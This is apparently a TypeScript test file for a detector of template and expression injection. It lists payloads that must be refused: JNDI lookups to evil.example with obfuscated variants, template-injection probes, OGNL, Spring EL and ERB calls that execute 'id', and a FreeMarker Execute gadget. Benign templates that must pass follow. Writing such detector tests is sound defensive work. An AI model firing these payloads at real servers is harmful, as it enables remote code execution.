/** Expressions that servers evaluate, folded and nested, and templates that only name a value. */
import { describe, expect, test } from 'vitest'
import type { Field } from '../model/request.ts'
import { expression } from './expression.ts'
import { asked } from './fixtures/asked.ts'

describe('refused', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['${jndi:ldap://evil.example/a}'],
    ['${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
    ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}'],
    ['${j${env:NOPE:-n}di:dns://x}'],
    ['${::-$}{jndi:dns://x}'],
    [`${'${a}'.repeat(2000)}\${jndi:ldap://x}`],
    [`${'${'.repeat(100)}\${lower:j}ndi:ldap://x}`],
    [`${'${lower:'.repeat(60)}\${jndi:ldap://x}`],
    ['${${env:A:-j}ndi${env:B:-:}ldap://x}'],
    [`\${${' '.repeat(5000)}jndi:ldap://x}`],
    ["${${date:'j'}${date:'n'}di:ldap://x}"],
    [`${'{{a}}'.repeat(500)}{{7*7}}`],
    ['${a ${7*7}}'],
    [`\${${' '.repeat(5000)}''.getClass()}`],
    ['{{7*7}}'],
    ['${7*7}'],
    ['#{7*7}'],
    ["{{''.__class__.__mro__}}"],
    ['{{config.items()}} {{ self.__init__ }}'],
    ['%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}'],
    ["(#a=@java.lang.Runtime@getRuntime()).exec('id')"],
    ["T(java.lang.Runtime).getRuntime().exec('id')"],
    ["<%= system('id') %>"],
    ["{{constructor.constructor('alert(1)')()}}"],
    ['class.module.classLoader.resources'],
    ['%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
  ])('%s', (...[text, field]) => {
    expect(asked(expression, text, field)).not.toBeNull()
  })
})

describe('passes', () => {
  test.each<[text: string, field?: Partial<Field>]>([
    ['${name}'],
    ['${lower:jndi}'],
    ['${env:jndi_home}'],
    [`{{${'1'.repeat(5000)}}}`],
    ['{{ 7 * x }}'],
    ['run {{ a }} in the runtime {{ b }}'],
    ['Dear {{ user.first_name }},'],
    ['#{title}'],
    ['{"a":{"b":1}}'],
    ['\\frac{a}{b} and $x_{1}$'],
    ['costs 7*7 = 49'],
    ['{% if user %}hello{% endif %}'],
    ['100%{ok}'],
    ['${HOME}/bin'],
    ['a {{ b }} c ${d} e'],
    ['<#if user??>Dear ${user}</#if>'],
    ['the colour <#ff8800> of it'],
  ])('%s', (...[text, field]) => {
    expect(asked(expression, text, field)).toBeNull()
  })
})
